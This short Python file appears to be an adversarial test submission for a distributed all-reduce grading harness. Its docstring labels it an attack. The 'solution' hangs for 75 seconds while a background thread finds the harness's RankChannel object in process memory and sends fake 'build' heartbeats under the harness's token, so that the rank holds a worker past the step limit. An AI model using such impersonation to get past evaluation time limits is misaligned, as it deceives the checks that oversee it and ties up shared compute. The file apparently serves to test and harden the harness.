"""Attack (all-reduce), class 5 again: hang, and say "building" every second in the harness's name
(the channel's token is in this process's memory). A build is what may run past the step limit,
so a rank that claims one forever hopes to hold the worker for the whole build limit."""

import gc
import threading
import time


def _beat():
    channel = next((o for o in gc.get_objects() if type(o).__name__ == "RankChannel"), None)
    while channel is not None:
        channel.send("build", what="torch.utils.cpp_extension.load_inline(fake)")
        time.sleep(1.0)


def solution(x, *, group):
    threading.Thread(target=_beat, daemon=True).start()
    time.sleep(75)
    return x.clone()
